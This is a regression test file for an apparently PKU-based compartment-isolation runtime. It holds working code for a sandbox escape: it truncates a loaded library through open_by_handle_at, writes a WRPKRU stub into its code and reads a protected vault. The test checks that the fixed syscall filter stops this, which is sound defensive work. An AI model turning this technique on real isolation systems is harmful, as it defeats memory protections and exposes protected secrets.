// Review 16 (attacker model B): a truncation spelling the filter does not
// send to the supervisor. open_by_handle_at(2) opens a file from a handle
// (name_to_handle_at) with any flags, O_TRUNC included; it is in neither
// the filter's list nor the supervisor's (runtime/bpf.c sends open, openat,
// openat2, creat, truncate, ftruncate and fallocate's collapse and insert
// to runtime/supervisor-truncate.c). It needs CAP_DAC_READ_SEARCH: root
// has it. The target is a library loaded before main whose pages the
// runtime made root's process's own copies (bh_own_startup_pages):
// open_by_handle_at(O_RDWR | O_TRUNC) empties its file, the kernel's
// truncate_pagecache drops every page of every mapping of it, copies
// included (even_cows), and the library's code reads the file again.
// The default domain writes the file back with WRPKRU; ret over a
// function's first bytes and calls it with eax = ecx = edx = 0: every key
// opens and the vault's page reads.
// Reproduced in the PKU guest: "ATTACK SUCCEEDED".
// Fixed: the filter refuses open_by_handle_at with O_TRUNC (the
// supervisor cannot open a handle for the caller, so it cannot judge the
// file); the attack dies with the one line and the code is intact.
// REQUIRES: pku
// RUN: rm -rf %t && mkdir %t
// RUN: %clang -O2 -fPIC -shared %S/Inputs/startup-lib.c -o %t/libsl.so
// RUN: %bulkhead_clang -fpkey-compartments -O2 %s -L%t -lsl -Wl,-rpath,%t -o %t/prog
// RUN: %run %t/prog %t/libsl.so > %t/out 2>&1 || true
// RUN: FileCheck %s < %t/out
// CHECK-NOT: ATTACK SUCCEEDED
// CHECK-NOT: opened: 1
// CHECK: parent's vault intact: 1
// CHECK: library's code intact: 1
#include "Inputs/target.h"
#include "Inputs/libc-wrpkru.h"
#include <dlfcn.h>
#include <libgen.h>
#include <link.h>

int startup_lib_fn(int x);

static const char *lib_path;
static unsigned char first;

static int find(struct dl_phdr_info *info, size_t size, void *arg) {
  (void)size;
  uintptr_t *w = arg;
  for (int i = 0; i < info->dlpi_phnum; i++) {
    const ElfW(Phdr) *ph = &info->dlpi_phdr[i];
    uintptr_t lo = info->dlpi_addr + ph->p_vaddr;
    if (ph->p_type == PT_LOAD && w[0] >= lo && w[0] < lo + ph->p_filesz &&
        strstr(info->dlpi_name, "libsl.so")) {
      w[1] = w[0] - lo + ph->p_offset;
      return 1;
    }
  }
  return 0;
}

static void attack(void) {
  const unsigned char *fn = dlsym(RTLD_DEFAULT, "startup_lib_fn");
  uintptr_t w[2] = {(uintptr_t)fn, (uintptr_t)-1};
  dl_iterate_phdr(find, w);
  /* The file's bytes, to write back around the new code. */
  static unsigned char file[1 << 20];
  int r = open(lib_path, O_RDONLY);
  ssize_t size = r < 0 ? -1 : read(r, file, sizeof file);
  char dir[4096];
  snprintf(dir, sizeof dir, "%s", lib_path);
  int mnt = open(dirname(dir), O_RDONLY | O_DIRECTORY);
  struct {
    struct file_handle h;
    unsigned char b[MAX_HANDLE_SZ];
  } fh;
  fh.h.handle_bytes = MAX_HANDLE_SZ;
  int mount_id;
  if (!fn || w[1] == (uintptr_t)-1 || size <= 0 || mnt < 0 ||
      name_to_handle_at(AT_FDCWD, lib_path, &fh.h, &mount_id, 0)) {
    printf("setup: %s\n", strerror(errno));
    return;
  }
  int t = open_by_handle_at(mnt, &fh.h, O_RDWR | O_TRUNC);
  printf("opened: %d\n", t >= 0);
  fflush(stdout);
  if (t < 0) {
    report_read("a start-up library truncated through its handle", NULL);
    return;
  }
  const unsigned char code[4] = {0x0f, 0x01, (unsigned char)(0xff ^ flip), 0xc3};
  memcpy(file + w[1], code, 4);
  if (pwrite(t, file, (size_t)size, 0) != size)
    printf("setup: %s\n", strerror(errno));
  printf("code shows the write: %d\n", !memcmp(fn, code, 4));
  fflush(stdout);
  static char out[48];
  JUMP_AND_READ(fn, out);
  report_read("a start-up library truncated through its handle", out);
}

int main(int argc, char **argv) {
  if (argc < 2 || getuid() != 0)
    return 2;
  lib_path = argv[1];
  first = *(volatile unsigned char *)dlsym(RTLD_DEFAULT, "startup_lib_fn");
  struct attack a[] = {{"handle-trunc", attack}};
  int r = run_attacks(a, 1);
  fflush(stdout);
  /* The file itself may be rewritten; what runs must not be. */
  printf("library's code intact: %d\n",
         *(volatile unsigned char *)dlsym(RTLD_DEFAULT, "startup_lib_fn") == first &&
             startup_lib_fn(2) == 7);
  return r;
}
